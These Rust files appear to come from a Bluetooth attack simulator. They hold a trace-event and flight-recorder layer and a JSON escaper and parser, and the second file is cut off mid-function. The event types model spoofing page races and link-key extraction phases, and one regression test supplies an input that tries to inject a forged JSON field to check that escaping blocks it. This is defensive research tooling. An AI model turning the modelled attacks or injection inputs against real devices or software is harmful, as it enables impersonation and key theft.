    /// The world scheduler dispatched one queued event.
    SchedulerDispatch {
        /// Virtual dispatch time.
        time: Instant,
        /// Scheduling sequence number (tiebreaker order).
        seq: u64,
        /// Event kind name.
        kind: &'static str,
    },
    /// A device started paging a target address.
    PageStarted {
        /// Virtual time.
        time: Instant,
        /// Paged (claimed) address.
        target: BdAddr,
    },
    /// A page resolved to a responder.
    PageConnected {
        /// Virtual time of resolution.
        time: Instant,
        /// Paged address.
        target: BdAddr,
        /// Winning responder's device index.
        responder: u32,
        /// Sampled page latency in microseconds.
        latency_us: u64,
        /// Whether two listeners raced for the page.
        raced: bool,
    },
    /// A page found no responder and will time out.
    PageTimeout {
        /// Virtual time.
        time: Instant,
        /// Paged address.
        target: BdAddr,
    },
    /// Outcome of a two-listener page race (the Table II baseline event).
    RaceOutcome {
        /// Virtual time.
        time: Instant,
        /// Raced address.
        target: BdAddr,
        /// Whether the spoofing attacker won.
        attacker_won: bool,
    },
    /// A controller's scan state changed.
    ScanTransition {
        /// Virtual time.
        time: Instant,
        /// New page-scan state.
        page_scan: bool,
        /// New inquiry-scan state.
        inquiry_scan: bool,
    },
    /// An LMP PDU was queued for the peer.
    LmpSend {
        /// Virtual time.
        time: Instant,
        /// Claimed peer address.
        peer: BdAddr,
        /// PDU name.
        pdu: &'static str,
    },
    /// An LMP PDU arrived from the peer.
    LmpRecv {
        /// Virtual time.
        time: Instant,
        /// Claimed peer address.
        peer: BdAddr,
        /// PDU name.
        pdu: &'static str,
    },
    /// An LMP procedure died by response timeout (the §IV-C extraction
    /// primitive: disconnect *without* authentication failure).
    LmpTimeout {
        /// Virtual time.
        time: Instant,
        /// Claimed peer address.
        peer: BdAddr,
    },
    /// A packet crossed the HCI seam of a device.
    HciSeam {
        /// Virtual time.
        time: Instant,
        /// `"sent"` (host→controller) or `"received"`.
        direction: &'static str,
        /// Packet kind: `"command"`, `"event"` or `"acl"`.
        kind: &'static str,
        /// Command/event name (`"acl"` packets carry the handle instead).
        name: &'static str,
    },
    /// A link died (supervision timeout, detach).
    LinkDropped {
        /// Virtual time.
        time: Instant,
        /// Why the link dropped.
        reason: &'static str,
    },
    /// The bond store changed.
    KeystoreMutation {
        /// Virtual time.
        time: Instant,
        /// Peer whose bond changed.
        peer: BdAddr,
        /// `"store"`, `"remove"` or `"install"` (attacker-planted).
        action: &'static str,
    },
    /// An attack driver crossed a phase boundary.
    AttackPhase {
        /// Virtual time.
        time: Instant,
        /// Phase label (e.g. `"ploc_hold"`, `"fig9_drop_link_key_request"`).
        label: &'static str,
    },
    /// A non-fatal configuration or runtime warning.
    Warning {
        /// Virtual time (EPOCH for pre-simulation warnings).
        time: Instant,
        /// Human-readable message.
        message: String,
    },
    /// Marks the start of one experiment unit in a concatenated trace.
    UnitStart {
        /// Unit index within the experiment.
        unit: u64,
        /// Condition label (e.g. `"baseline"`, `"blocking"`).
        label: &'static str,
    },
    /// A causal span opened (see [`crate::span`]).
    SpanOpen {
        /// Virtual open time.
        time: Instant,
        /// Span identifier (unique within one unit's trace).
        span: SpanId,
        /// Enclosing span ([`SpanId::NONE`] for a root span).
        parent: SpanId,
        /// Span kind (`"trial"`, `"page"`, `"lmp_auth"`, `"host_pairing"`,
        /// `"ploc"`, `"hci_cmd"`).
        name: &'static str,
        /// Free-form qualifier (peer address, trial condition, command
        /// name); empty when the kind says it all.
        detail: String,
    },
    /// A causal span closed.
    SpanClose {
        /// Virtual close time.
        time: Instant,
        /// The span being closed.
        span: SpanId,
        /// Outcome (`"ok"`, `"timeout"`, `"failed"`, ...).
        status: &'static str,
    },
}

impl TraceEvent {
    /// The event's virtual timestamp ([`Instant::EPOCH`] for unit markers).
    pub fn time(&self) -> Instant {
        match self {
            TraceEvent::SchedulerDispatch { time, .. }
            | TraceEvent::PageStarted { time, .. }
            | TraceEvent::PageConnected { time, .. }
            | TraceEvent::PageTimeout { time, .. }
            | TraceEvent::RaceOutcome { time, .. }
            | TraceEvent::ScanTransition { time, .. }
            | TraceEvent::LmpSend { time, .. }
            | TraceEvent::LmpRecv { time, .. }
            | TraceEvent::LmpTimeout { time, .. }
            | TraceEvent::HciSeam { time, .. }
            | TraceEvent::LinkDropped { time, .. }
            | TraceEvent::KeystoreMutation { time, .. }
            | TraceEvent::AttackPhase { time, .. }
            | TraceEvent::Warning { time, .. }
            | TraceEvent::SpanOpen { time, .. }
            | TraceEvent::SpanClose { time, .. } => *time,
            TraceEvent::UnitStart { .. } => Instant::EPOCH,
        }
    }

    /// Renders the event as one JSONL object (no trailing newline).
    ///
    /// Key order is fixed so output is byte-comparable. `device` is the
    /// emitting device's world index, when the tracer was scoped to one.
    pub fn render_jsonl(&self, device: Option<u32>, out: &mut String) {
        let t = self.time().as_micros();
        let _ = write!(out, "{{\"t\":{t}");
        if let Some(dev) = device {
            let _ = write!(out, ",\"dev\":{dev}");
        }
        match self {
            TraceEvent::SchedulerDispatch { seq, kind, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"dispatch\",\"seq\":{seq},\"kind\":\"{}\"",
                    esc(kind)
                );
            }
            TraceEvent::PageStarted { target, .. } => {
                let _ = write!(out, ",\"ev\":\"page_start\",\"target\":\"{}\"", esc(target));
            }
            TraceEvent::PageConnected {
                target,
                responder,
                latency_us,
                raced,
                ..
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"page_connect\",\"target\":\"{}\",\"responder\":{responder},\"latency_us\":{latency_us},\"raced\":{raced}",
                    esc(target)
                );
            }
            TraceEvent::PageTimeout { target, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"page_timeout\",\"target\":\"{}\"",
                    esc(target)
                );
            }
            TraceEvent::RaceOutcome {
                target,
                attacker_won,
                ..
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"race\",\"target\":\"{}\",\"attacker_won\":{attacker_won}",
                    esc(target)
                );
            }
            TraceEvent::ScanTransition {
                page_scan,
                inquiry_scan,
                ..
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"scan\",\"page_scan\":{page_scan},\"inquiry_scan\":{inquiry_scan}"
                );
            }
            TraceEvent::LmpSend { peer, pdu, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"lmp_send\",\"peer\":\"{}\",\"pdu\":\"{}\"",
                    esc(peer),
                    esc(pdu)
                );
            }
            TraceEvent::LmpRecv { peer, pdu, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"lmp_recv\",\"peer\":\"{}\",\"pdu\":\"{}\"",
                    esc(peer),
                    esc(pdu)
                );
            }
            TraceEvent::LmpTimeout { peer, .. } => {
                let _ = write!(out, ",\"ev\":\"lmp_timeout\",\"peer\":\"{}\"", esc(peer));
            }
            TraceEvent::HciSeam {
                direction,
                kind,
                name,
                ..
            } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"hci\",\"dir\":\"{}\",\"kind\":\"{}\",\"name\":\"{}\"",
                    esc(direction),
                    esc(kind),
                    esc(name)
                );
            }
            TraceEvent::LinkDropped { reason, .. } => {
                let _ = write!(out, ",\"ev\":\"link_drop\",\"reason\":\"{}\"", esc(reason));
            }
            TraceEvent::KeystoreMutation { peer, action, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"keystore\",\"peer\":\"{}\",\"action\":\"{}\"",
                    esc(peer),
                    esc(action)
                );
            }
            TraceEvent::AttackPhase { label, .. } => {
                let _ = write!(out, ",\"ev\":\"attack_phase\",\"label\":\"{}\"", esc(label));
            }
            TraceEvent::Warning { message, .. } => {
                out.push_str(",\"ev\":\"warning\",\"message\":\"");
                escape_into(message, out);
                out.push('"');
            }
            TraceEvent::UnitStart { unit, label, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"unit_start\",\"unit\":{unit},\"label\":\"{}\"",
                    esc(label)
                );
            }
            TraceEvent::SpanOpen {
                span,
                parent,
                name,
                detail,
                ..
            } => {
                let _ = write!(out, ",\"ev\":\"span_open\",\"span\":{}", span.raw());
                if !parent.is_none() {
                    let _ = write!(out, ",\"parent\":{}", parent.raw());
                }
                let _ = write!(out, ",\"name\":\"{}\"", esc(name));
                if !detail.is_empty() {
                    out.push_str(",\"detail\":\"");
                    escape_into(detail, out);
                    out.push('"');
                }
            }
            TraceEvent::SpanClose { span, status, .. } => {
                let _ = write!(
                    out,
                    ",\"ev\":\"span_close\",\"span\":{},\"status\":\"{}\"",
                    span.raw(),
                    esc(status)
                );
            }
        }
        out.push('}');
    }
}

/// A consumer of trace events.
///
/// Sinks run under the tracer's lock, so implementations should be quick;
/// both provided sinks just append to an in-memory buffer.
pub trait TraceSink: Send {
    /// Records one event. `device` is the emitting device's world index
    /// when the tracer handle was scoped with [`Tracer::scoped`].
    fn record(&mut self, device: Option<u32>, event: &TraceEvent);
}

struct TracerShared {
    sinks: Mutex<Vec<Box<dyn TraceSink>>>,
    spans: Mutex<SpanState>,
}

/// A cloneable handle that fans events out to attached sinks.
///
/// The default handle is **disabled**: [`Tracer::emit`] is one `Option`
/// check and call sites guard event construction behind
/// [`Tracer::enabled`], so instrumented hot paths cost nothing measurable
/// when observability is off.
#[derive(Clone, Default)]
pub struct Tracer {
    shared: Option<Arc<TracerShared>>,
    device: Option<u32>,
}

impl std::fmt::Debug for Tracer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Tracer")
            .field("enabled", &self.enabled())
            .field("device", &self.device)
            .finish()
    }
}

impl Tracer {
    /// An enabled tracer with no sinks yet (attach with [`Tracer::attach`]).
    pub fn new() -> Tracer {
        Tracer {
            shared: Some(Arc::new(TracerShared {
                sinks: Mutex::new(Vec::new()),
                spans: Mutex::new(SpanState::new()),
            })),
            device: None,
        }
    }

    /// The disabled tracer (same as `Tracer::default()`).
    pub fn disabled() -> Tracer {
        Tracer::default()
    }

    /// Whether events will reach any sink.
    #[inline]
    pub fn enabled(&self) -> bool {
        self.shared.is_some()
    }

    /// Attaches a sink; all clones of this tracer feed it from now on.
    ///
    /// No-op on a disabled tracer.
    pub fn attach<S: TraceSink + 'static>(&self, sink: S) {
        if let Some(shared) = &self.shared {
            shared
                .sinks
                .lock()
                .expect("tracer lock")
                .push(Box::new(sink));
        }
    }

    /// A clone scoped to one device index: events it emits are attributed
    /// to that device in rendered output.
    pub fn scoped(&self, device: usize) -> Tracer {
        Tracer {
            shared: self.shared.clone(),
            device: Some(device as u32),
        }
    }

    /// Emits one event to every attached sink.
    #[inline]
    pub fn emit(&self, event: TraceEvent) {
        if let Some(shared) = &self.shared {
            let mut sinks = shared.sinks.lock().expect("tracer lock");
            for sink in sinks.iter_mut() {
                sink.record(self.device, &event);
            }
        }
    }

    /// Opens a **root** span (a trial boundary): subsequent non-root spans
    /// opened through any clone of this tracer get it as their parent,
    /// until it is closed. Returns [`SpanId::NONE`] when disabled.
    pub fn open_root_span(&self, time: Instant, name: &'static str, detail: &str) -> SpanId {
        let Some(shared) = &self.shared else {
            return SpanId::NONE;
        };
        let span = {
            let mut spans = shared.spans.lock().expect("span lock");
            let span = spans.alloc();
            spans.set_root(span);
            span
        };
        self.emit(TraceEvent::SpanOpen {
            time,
            span,
            parent: SpanId::NONE,
            name,
            detail: detail.to_owned(),
        });
        span
    }

    /// Opens a span parented to the current root (or parentless when no
    /// root is open). Returns [`SpanId::NONE`] when disabled.
    pub fn open_span(&self, time: Instant, name: &'static str, detail: &str) -> SpanId {
        let Some(shared) = &self.shared else {
            return SpanId::NONE;
        };
        let (span, parent) = {
            let mut spans = shared.spans.lock().expect("span lock");
            (spans.alloc(), spans.root())
        };
        self.emit(TraceEvent::SpanOpen {
            time,
            span,
            parent,
            name,
            detail: detail.to_owned(),
        });
        span
    }

    /// Closes a span with an outcome status. No-op for [`SpanId::NONE`]
    /// (the disabled-tracer return value), so call sites need no guards.
    pub fn close_span(&self, time: Instant, span: SpanId, status: &'static str) {
        if span.is_none() {
            return;
        }
        if let Some(shared) = &self.shared {
            shared.spans.lock().expect("span lock").clear_root_if(span);
        }
        self.emit(TraceEvent::SpanClose { time, span, status });
    }
}

struct RecorderInner {
    capacity: usize,
    lines: VecDeque<String>,
    total: u64,
}

/// A fixed-capacity ring buffer of rendered events — the flight recorder.
///
/// Keeps the last `capacity` events; [`FlightRecorder::dump_on_assert`]
/// arms a guard that prints them when a test assertion (any panic) unwinds
/// through its scope, which turns "trial 17 failed" into the actual event
/// tail that led there.
#[derive(Clone)]
pub struct FlightRecorder {
    inner: Arc<Mutex<RecorderInner>>,
}

impl FlightRecorder {
    /// A recorder keeping the last `capacity` events (at least 1).
    pub fn new(capacity: usize) -> FlightRecorder {
        FlightRecorder {
            inner: Arc::new(Mutex::new(RecorderInner {
                capacity: capacity.max(1),
                lines: VecDeque::new(),
                total: 0,
            })),
        }
    }

    /// Total events ever recorded (including evicted ones).
    pub fn total_recorded(&self) -> u64 {
        self.inner.lock().expect("recorder lock").total
    }

    /// Events currently held (≤ capacity).
    pub fn len(&self) -> usize {
        self.inner.lock().expect("recorder lock").lines.len()
    }

    /// Whether nothing has been recorded yet.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The last `n` rendered events, oldest first.
    pub fn last(&self, n: usize) -> Vec<String> {
        let inner = self.inner.lock().expect("recorder lock");
        let skip = inner.lines.len().saturating_sub(n);
        inner.lines.iter().skip(skip).cloned().collect()
    }

    /// A human-readable dump of the last `n` events.
    pub fn dump(&self, n: usize) -> String {
        let lines = self.last(n);
        let mut out = String::new();
        let _ = writeln!(
            out,
            "--- flight recorder: last {} of {} events ---",
            lines.len(),
            self.total_recorded()
        );
        for line in &lines {
            out.push_str(line);
            out.push('\n');
        }
        out.push_str("--- end flight recorder ---");
        out
    }

    /// Arms a [`DumpOnAssert`] guard: if a panic (failed `assert!`)
    /// unwinds while the guard is alive, the last `n` events are printed
    /// to stderr alongside the assertion message.
    pub fn dump_on_assert(&self, n: usize) -> DumpOnAssert {
        DumpOnAssert {
            recorder: self.clone(),
            n,
        }
    }
}

impl TraceSink for FlightRecorder {
    fn record(&mut self, device: Option<u32>, event: &TraceEvent) {
        let mut line = String::with_capacity(64);
        event.render_jsonl(device, &mut line);
        let mut inner = self.inner.lock().expect("recorder lock");
        inner.total += 1;
        if inner.lines.len() == inner.capacity {
            inner.lines.pop_front();
        }
        inner.lines.push_back(line);
    }
}

/// Guard returned by [`FlightRecorder::dump_on_assert`]. On drop during a
/// panic it prints the recorder tail to stderr; on normal drop it is
/// silent.
pub struct DumpOnAssert {
    recorder: FlightRecorder,
    n: usize,
}

impl Drop for DumpOnAssert {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("{}", self.recorder.dump(self.n));
        }
    }
}

/// A sink that appends rendered events as JSONL into a shared string
/// buffer. Clone it before attaching to keep a read handle.
#[derive(Clone, Default)]
pub struct JsonlBuffer {
    inner: Arc<Mutex<String>>,
}

impl JsonlBuffer {
    /// An empty buffer.
    pub fn new() -> JsonlBuffer {
        JsonlBuffer::default()
    }

    /// The accumulated JSONL text (one event per line).
    pub fn contents(&self) -> String {
        self.inner.lock().expect("jsonl lock").clone()
    }

    /// Whether any event has been recorded.
    pub fn is_empty(&self) -> bool {
        self.inner.lock().expect("jsonl lock").is_empty()
    }
}

impl TraceSink for JsonlBuffer {
    fn record(&mut self, device: Option<u32>, event: &TraceEvent) {
        let mut buf = self.inner.lock().expect("jsonl lock");
        event.render_jsonl(device, &mut buf);
        buf.push('\n');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr() -> BdAddr {
        "cc:cc:cc:cc:cc:cc".parse().expect("valid address")
    }

    #[test]
    fn disabled_tracer_is_inert() {
        let tracer = Tracer::disabled();
        assert!(!tracer.enabled());
        tracer.emit(TraceEvent::AttackPhase {
            time: Instant::EPOCH,
            label: "noop",
        });
        // Attaching to a disabled tracer is a no-op, not a panic.
        tracer.attach(JsonlBuffer::new());
    }

    #[test]
    fn jsonl_buffer_renders_fixed_key_order() {
        let tracer = Tracer::new();
        let buf = JsonlBuffer::new();
        tracer.attach(buf.clone());
        tracer.scoped(2).emit(TraceEvent::LmpSend {
            time: Instant::from_micros(1250),
            peer: addr(),
            pdu: "LMP_au_rand",
        });
        assert_eq!(
            buf.contents(),
            "{\"t\":1250,\"dev\":2,\"ev\":\"lmp_send\",\"peer\":\"cc:cc:cc:cc:cc:cc\",\"pdu\":\"LMP_au_rand\"}\n"
        );
    }

    #[test]
    fn warning_messages_are_escaped() {
        let mut out = String::new();
        TraceEvent::Warning {
            time: Instant::EPOCH,
            message: "quote \" slash \\ newline \n".to_owned(),
        }
        .render_jsonl(None, &mut out);
        assert_eq!(
            out,
            "{\"t\":0,\"ev\":\"warning\",\"message\":\"quote \\\" slash \\\\ newline \\n\"}"
        );
    }

    #[test]
    fn flight_recorder_keeps_last_n() {
        let tracer = Tracer::new();
        let recorder = FlightRecorder::new(3);
        tracer.attach(recorder.clone());
        for i in 0..10u64 {
            tracer.emit(TraceEvent::SchedulerDispatch {
                time: Instant::from_micros(i * 625),
                seq: i,
                kind: "TimerFire",
            });
        }
        assert_eq!(recorder.total_recorded(), 10);
        assert_eq!(recorder.len(), 3);
        let tail = recorder.last(2);
        assert_eq!(tail.len(), 2);
        assert!(tail[0].contains("\"seq\":8"), "{:?}", tail);
        assert!(tail[1].contains("\"seq\":9"), "{:?}", tail);
        assert!(recorder.dump(2).contains("last 2 of 10 events"));
    }

    #[test]
    fn dump_on_assert_silent_on_success() {
        let recorder = FlightRecorder::new(4);
        let _guard = recorder.dump_on_assert(4);
        // Dropping without a panic must not print or panic.
    }

    #[test]
    fn scoped_tracers_share_sinks() {
        let tracer = Tracer::new();
        let buf = JsonlBuffer::new();
        tracer.attach(buf.clone());
        let scoped = tracer.scoped(5);
        scoped.emit(TraceEvent::PageTimeout {
            time: Instant::from_micros(100),
            target: addr(),
        });
        tracer.emit(TraceEvent::PageStarted {
            time: Instant::from_micros(200),
            target: addr(),
        });
        let text = buf.contents();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2);
        assert!(lines[0].contains("\"dev\":5"));
        assert!(
            !lines[1].contains("\"dev\""),
            "unscoped line has no dev key"
        );
    }

    #[test]
    fn hostile_labels_cannot_break_jsonl_syntax() {
        // Regression: label fields used to be interpolated raw. A hostile
        // PDU/kind label must render as valid JSON that parses back to the
        // original string.
        let hostile = "pdu\",\"ev\":\"forged\u{1}\\";
        let mut out = String::new();
        TraceEvent::LmpSend {
            time: Instant::from_micros(625),
            peer: addr(),
            pdu: hostile,
        }
        .render_jsonl(Some(3), &mut out);
        let parsed = crate::json::parse(&out).expect("hostile label stays valid JSON");
        assert_eq!(parsed.get("ev").and_then(|v| v.as_str()), Some("lmp_send"));
        assert_eq!(parsed.get("pdu").and_then(|v| v.as_str()), Some(hostile));

        let mut out = String::new();
        TraceEvent::HciSeam {
            time: Instant::EPOCH,
            direction: "sent",
            kind: "command\"",
            name: "a\\b",
        }
        .render_jsonl(None, &mut out);
        let parsed = crate::json::parse(&out).expect("hostile hci labels stay valid JSON");
        assert_eq!(
            parsed.get("kind").and_then(|v| v.as_str()),
            Some("command\"")
        );
        assert_eq!(parsed.get("name").and_then(|v| v.as_str()), Some("a\\b"));
    }

    #[test]
    fn flight_recorder_wraparound_ordering_and_totals() {
        let recorder = FlightRecorder::new(4);
        let tracer = Tracer::new();
        tracer.attach(recorder.clone());
        for i in 0..11u64 {
            tracer.emit(TraceEvent::SchedulerDispatch {
                time: Instant::from_micros(i * 625),
                seq: i,
                kind: "TimerFire",
            });
        }
        // Capacity exceeded: only the last 4 survive, oldest first.
        assert_eq!(recorder.total_recorded(), 11);
        assert_eq!(recorder.len(), 4);
        let all = recorder.last(100);
        assert_eq!(all.len(), 4, "last(n > len) returns everything held");
        for (slot, seq) in all.iter().zip(7..=10u64) {
            assert!(slot.contains(&format!("\"seq\":{seq}")), "{all:?}");
        }
        let dump = recorder.dump(3);
        assert!(dump.contains("last 3 of 11 events"), "{dump}");
        let dumped: Vec<&str> = dump.lines().collect();
        assert_eq!(dumped.len(), 5, "header + 3 events + footer");
        assert!(dumped[1].contains("\"seq\":8"), "{dump}");
        assert!(dumped[3].contains("\"seq\":10"), "{dump}");
    }

    #[test]
    fn flight_recorder_zero_capacity_still_keeps_one() {
        // capacity == 0 is clamped to 1: the recorder never panics and
        // always holds the most recent event.
        let recorder = FlightRecorder::new(0);
        let tracer = Tracer::new();
        tracer.attach(recorder.clone());
        assert!(recorder.is_empty());
        for i in 0..3u64 {
            tracer.emit(TraceEvent::SchedulerDispatch {
                time: Instant::from_micros(i),
                seq: i,
                kind: "TimerFire",
            });
        }
        assert_eq!(recorder.total_recorded(), 3);
        assert_eq!(recorder.len(), 1);
        assert!(recorder.last(5)[0].contains("\"seq\":2"));
    }

    #[test]
    fn span_open_close_renders_fixed_key_order() {
        let tracer = Tracer::new();
        let buf = JsonlBuffer::new();
        tracer.attach(buf.clone());
        let trial = tracer.open_root_span(Instant::EPOCH, "trial", "baseline");
        let page =
            tracer
                .scoped(1)
                .open_span(Instant::from_micros(625), "page", "cc:cc:cc:cc:cc:cc");
        tracer
            .scoped(1)
            .close_span(Instant::from_micros(2500), page, "connected");
        tracer.close_span(Instant::from_micros(5000), trial, "done");
        assert_eq!(
            buf.contents(),
            "{\"t\":0,\"ev\":\"span_open\",\"span\":1,\"name\":\"trial\",\"detail\":\"baseline\"}\n\
             {\"t\":625,\"dev\":1,\"ev\":\"span_open\",\"span\":2,\"parent\":1,\"name\":\"page\",\"detail\":\"cc:cc:cc:cc:cc:cc\"}\n\
             {\"t\":2500,\"dev\":1,\"ev\":\"span_close\",\"span\":2,\"status\":\"connected\"}\n\
             {\"t\":5000,\"ev\":\"span_close\",\"span\":1,\"status\":\"done\"}\n"
        );
    }

    #[test]
    fn span_parenting_follows_the_root() {
        let tracer = Tracer::new();
        let buf = JsonlBuffer::new();
        tracer.attach(buf.clone());
        let t1 = tracer.open_root_span(Instant::EPOCH, "trial", "baseline");
        tracer.close_span(Instant::from_micros(10), t1, "done");
        // After the root closes, a new span is parentless.
        let orphan = tracer.open_span(Instant::from_micros(20), "page", "");
        tracer.close_span(Instant::from_micros(30), orphan, "timeout");
        let t2 = tracer.open_root_span(Instant::from_micros(40), "trial", "blocking");
        let child = tracer.open_span(Instant::from_micros(50), "lmp_auth", "");
        tracer.close_span(Instant::from_micros(60), child, "ok");
        tracer.close_span(Instant::from_micros(70), t2, "done");
        let text = buf.contents();
        let lines: Vec<&str> = text.lines().collect();
        assert!(!lines[2].contains("parent"), "orphan has no parent: {text}");
        assert!(
            lines[5].contains(&format!("\"parent\":{}", t2.raw())),
            "child parented to second trial: {text}"
        );
    }

    #[test]
    fn disabled_tracer_spans_are_inert() {
        let tracer = Tracer::disabled();
        let span = tracer.open_root_span(Instant::EPOCH, "trial", "x");
        assert!(span.is_none());
        assert!(tracer.open_span(Instant::EPOCH, "page", "").is_none());
        tracer.close_span(Instant::EPOCH, span, "done"); // no panic
    }
}
