//! Minimal hand-rolled JSON support shared across the observability layer.
//!
//! Two halves, both dependency-free by design (this crate may depend only
//! on `blap-types`):
//!
//! * **Escaping** — the single escaper used by every renderer (trace JSONL
//!   and metrics JSON), so a hostile label cannot break artifact syntax in
//!   one renderer while surviving the other.
//! * **Parsing** — a small recursive-descent reader used by the analyzer
//!   and the artifact differ to load artifacts back in. Numbers are kept
//!   as their literal source text ([`Value::Num`]) so comparing two
//!   artifacts is exact: no float round-trip, no locale, no 2^53 cliff.

use std::borrow::Cow;
use std::fmt;
use std::fmt::Write as _;

/// Escapes a string into `out` for embedding in a JSON string literal.
pub fn escape_into(s: &str, out: &mut String) {
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
}

/// Escapes a string for a JSON string literal, borrowing when the input
/// needs no changes (the overwhelmingly common case for metric keys).
pub fn escape(s: &str) -> Cow<'_, str> {
    if s.chars()
        .all(|c| c != '"' && c != '\\' && (c as u32) >= 0x20)
    {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 4);
    escape_into(s, &mut out);
    Cow::Owned(out)
}

/// Wraps any [`fmt::Display`] value so that its output is JSON-escaped as
/// it is formatted — zero extra allocation at render sites:
/// `write!(out, "\"{}\"", esc(label))`.
pub fn esc<T: fmt::Display>(value: T) -> Escaped<T> {
    Escaped(value)
}

/// See [`esc`].
pub struct Escaped<T>(T);

impl<T: fmt::Display> fmt::Display for Escaped<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        struct Adapter<'a, 'b>(&'a mut fmt::Formatter<'b>);
        impl fmt::Write for Adapter<'_, '_> {
            fn write_str(&mut self, s: &str) -> fmt::Result {
                let mut run = s;
                // Write unescaped runs in one shot; escape the exceptions.
                while let Some(pos) = run
                    .char_indices()
                    .find(|(_, c)| *c == '"' || *c == '\\' || (*c as u32) < 0x20)
                    .map(|(i, _)| i)
                {
                    self.0.write_str(&run[..pos])?;
                    let c = run[pos..].chars().next().expect("found above");
                    match c {
                        '"' => self.0.write_str("\\\"")?,
                        '\\' => self.0.write_str("\\\\")?,
                        '\n' => self.0.write_str("\\n")?,
                        '\r' => self.0.write_str("\\r")?,
                        '\t' => self.0.write_str("\\t")?,
                        c => write!(self.0, "\\u{:04x}", c as u32)?,
                    }
                    run = &run[pos + c.len_utf8()..];
                }
                self.0.write_str(run)
            }
        }
        write!(Adapter(f), "{}", self.0)
    }
}

/// A parsed JSON value.
///
/// Object member order is preserved (`Vec`, not a map) so reports can cite
/// artifacts in their on-disk order.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Value {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// A number, kept as its literal source text for exact comparison.
    Num(String),
    /// A string (unescaped).
    Str(String),
    /// An array.
    Array(Vec<Value>),
    /// An object, in source order.
    Object(Vec<(String, Value)>),
}

impl Value {
    /// Looks up a key in an object value.
    pub fn get(&self, key: &str) -> Option<&Value> {
        match self {
            Value::Object(members) => members.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The string payload, when this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The number parsed as `u64`, when this is a non-negative integer.
    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Value::Num(n) => n.parse().ok(),
            _ => None,
        }
    }

    /// The boolean payload, when this is a boolean.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }
}

/// A parse failure: byte offset into the input plus a short description.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ParseError {
    /// Byte offset of the failure.
    pub offset: usize,
    /// What went wrong.
    pub message: String,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "JSON parse error at byte {}: {}",
            self.offset, self.message
        )
    }
}

/// Parses one complete JSON value; trailing whitespace is allowed,
/// trailing garbage is an error.
pub fn parse(text: &str) -> Result<Value, ParseError> {
    let mut p = Parser {
        bytes: text.as_bytes(),
        pos: 0,
    };
    p.skip_ws();
    let value = p.value()?;
    p.skip_ws();
    if p.pos != p.bytes.len() {
        return Err(p.err("trailing data after value"));
    }
    Ok(value)
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn err(&self, message: &str) -> ParseError {
        ParseError {
            offset: self.pos,
            message: message.to_owned(),
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.pos += 1;
        }
    }

    fn expect(&mut self, b: u8) -> Result<(), ParseError> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.err(&format!("expected '{}'", b as char)))
        }
    }

    fn literal(&mut self, word: &str, value: Value) -> Result<Value, ParseError> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(self.err(&format!("expected '{word}'")))
        }
    }

    fn value(&mut self) -> Result<Value, ParseError> {
        match self.peek() {
            Some(b'{') => self.object(),
            Some(b'[') => self.array(),
            Some(b'"') => Ok(Value::Str(self.string()?)),
            Some(b't') => self.literal("true", Value::Bool(true)),
            Some(b'f') => self.literal("false", Value::Bool(false)),
            Some(b'n') => self.literal("null", Value::Null),
            Some(b'-' | b'0'..=b'9') => self.number(),
            _ => Err(self.err("expected a JSON value")),
        }
    }

    fn object(&mut self) -> Result<Value, ParseError> {
        self.expect(b'{')?;
        let mut members = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Object(members));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.value()?;
            members.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Object(members));
                }
                _ => return Err(self.err("expected ',' or '}' in object")),
            }
        }
    }

    fn array(&mut self) -> Result<Value, ParseError> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
